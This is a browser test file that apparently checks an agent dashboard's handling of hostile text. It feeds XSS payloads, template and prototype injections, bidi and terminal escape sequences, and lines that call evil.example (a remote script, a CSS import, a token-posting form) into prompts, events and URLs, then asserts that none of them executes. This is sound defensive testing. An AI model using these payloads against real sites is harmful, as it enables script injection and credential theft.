// What agents, events and prompts say is text: none of it becomes an element, a script, a style or a request.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';

import { Reader, aiwg, go, open, submit, until, wire, withBrowser } from './harness.mjs';

/** Texts that would do something where they are taken for HTML, a link, a style, a template or a terminal's commands. */
const CORPUS = [
  '<script>pwned.push(1)</script>',
  '<img src=x onerror="pwned.push(2)">',
  // What would be drawn by functions that call themselves.
  `${'- '.repeat(500)}a deep list`,
  `${'>'.repeat(500)} a deep quote`,
  `${'*a **b '.repeat(300)}deep emphasis`,
  '<svg onload=pwned.push(3)><animate onbegin=pwned.push(4) attributeName=x dur=1s>',
  '"><script src=https://evil.example/x.js></script>',
  "'-pwned.push(5)-'",
  '</textarea></title></style><iframe srcdoc="<script>parent.pwned.push(6)</script>">',
  '<a href="javascript:pwned.push(7)">click</a>',
  '[click](javascript:pwned.push(8))',
  '[click](JaVaScRiPt&colon;pwned.push(9))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![picture](https://evil.example/track.png)',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned.push(10)&gt;">',
  '<form action=https://evil.example><input name=token></form>',
  '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<div id=main><div id=page name=client>clobbered',
  '{{constructor.constructor("pwned.push(11)")()}} ${pwned.push(12)} <%= 1 %>',
  '\u202egnp.exe\u2066 \u0000 \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[31mred\u001b[0m \u001b[2J',
  '```html\n<script>pwned.push(13)</script>\n```\n<details open ontoggle=pwned.push(14)>',
  '__proto__ constructor toString <b>bold</b> &lt;b&gt;',
];

await withBrowser(async ({ browser, dashboard }) => {
  const { address } = await dashboard();
  const daemon = await wire();
  const all = CORPUS.join('\n\n');

  // In prompts, outputs, answers, standard error, names of agents, lanes and topics, notes, events, messages and questions.
  writeFileSync('corpus', all);
  writeFileSync('corpus.json', JSON.stringify(all));
  const ids = [];
  for (const prompt of CORPUS) {
    const { taskId } = await daemon.call('task.submit', {
      prompt,
      agent: 'x<img src=x onerror=pwned.push(20)>',
      metadata: { note: all },
    });
    ids.push(taskId);
  }
  const says = await submit(
    `do: said=$(cat corpus); speak; tool "cat corpus"; cat corpus; cat corpus >&2; printf '{"type":"assistant","message":{"content":[{"type":"tool_use","id":%s,"name":%s,"input":{"command":%s}}]}}\\n' "$(cat corpus.json)" "$(cat corpus.json)" "$(cat corpus.json)"; answer "$(cat corpus)"`,
  );
  const fails = await submit('do: fails "$(cat corpus)"');
  const { taskId: asked } = await daemon.call('task.submit', { prompt: all, approval: true });
  for (const text of CORPUS)
    await daemon.call('event.emit', { topic: 'hostile:one', payload: { [text]: text, list: [text] } });
  await daemon.call('event.emit', { topic: 'hostile:text', payload: all });
  const asking = await submit(
    `do: ${process.env.AIWG} ask "$(cat corpus)" --option "<script>pwned.push(21)</script>" --option yes`,
  );
  const { taskId: queued } = await daemon.call('task.submit', { prompt: 'waits', after: [asking] });
  await daemon.call('task.send', { taskId: queued, message: all });
  for (const id of [says, fails])
    await until(`the end of ${id}`, async () => !['queued', 'running'].includes((await aiwg('task', 'get', id)).state));

  const reader = await Reader.open(browser);
  const page = await reader.tab();
  await open(page, address);

  /** Nothing of it is an element, or leads anywhere else. */
  const check = async (where) => {
    const found = await page.evaluate(() => ({
      pwned: window.pwned,
      elements: [
        ...document.querySelectorAll(
          '#page :is(script, img, iframe, style, form[action], base, meta, math, object, embed, link, svg svg, animate, [onerror], [onload], [ontoggle])',
        ),
      ].map((one) => one.outerHTML),
      links: [...document.querySelectorAll('#page a')]
        .map((a) => a.getAttribute('href'))
        .filter((href) => !/^(#|\/$|https?:|mailto:)/.test(href)),
      // What turns the direction of a text would have a person approve another one.
      turned: /[\u0000-\u0008\u001b\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText),
      isWhole: document.getElementById('main')?.tagName === 'MAIN' && document.querySelectorAll('.rail').length === 1,
    }));
    assert.deepEqual(found, { pwned: [], elements: [], links: [], turned: false, isWhole: true }, where);
  };

  await page
    .locator('.ask', { hasText: asking })
    .getByRole('button', { name: '<script>pwned.push(21)</script>' })
    .waitFor();
  await page.locator('.ask', { hasText: asked }).getByText('<img src=x onerror="pwned.push(2)">').waitFor();
  await check('now');
  for (const id of [...ids, says, fails, queued]) {
    await go(page, `task/${id}`);
    await page.locator('.crumbs', { hasText: id }).waitFor();
    await check(`task ${id}`);
  }
  await go(page, `task/${says}`);
  await page.locator('.output .says').first().waitFor();
  for (const step of await page.locator('.output summary').all()) await step.click();
  await page.locator('.output').getByText('<svg onload=pwned.push(3)>').first().waitFor();
  for (const text of ['a deep list', 'a deep quote', 'deep emphasis'])
    await page.locator('.output').getByText(text).first().waitFor();
  // The terminal's colours are classes, and nothing is left of its other commands.
  await page.locator('.output .ansi-red').getByText('red').first().waitFor();
  assert.doesNotMatch(await page.locator('.output').innerText(), /[\u0000\u001b\u202e\u2066]/);
  // Links of Markdown lead out with nothing of this page; none of them is a script.
  for (const link of await page.locator('.markdown a').all()) assert.match(await link.getAttribute('href'), /^https?:/);
  await check('output');
  await page.getByRole('radio', { name: 'Standard error' }).check();
  await page.locator('.is-stderr').getByText('<math>').first().waitFor();
  await check('standard error');
  await go(page, 'events?topic=hostile:*');
  const row = page.locator('.event-row', { hasText: 'hostile:one' });
  await row.first().waitFor();
  await check('events');
  await row.first().click();
  await page.locator('.event-detail .plain').first().waitFor();
  await check('event');
  for (const view of ['tasks', 'time', 'money', 'rules']) {
    await go(page, view);
    await check(view);
  }
  // What the address says is data as well.
  for (const route of [
    'task/%3Cimg%20src=x%20onerror=pwned.push(30)%3E',
    'events?topic=%3Cscript%3Epwned.push(31)%3C/script%3E',
    'rules/%22%3E%3Cscript%3E',
    '%00/%ff?%',
  ]) {
    await page.evaluate((route) => (location.hash = `#/${route}`), route);
    await page.locator('#main > :nth-child(2)').waitFor();
    await check(route);
  }
  daemon.close();
  reader.check();
});
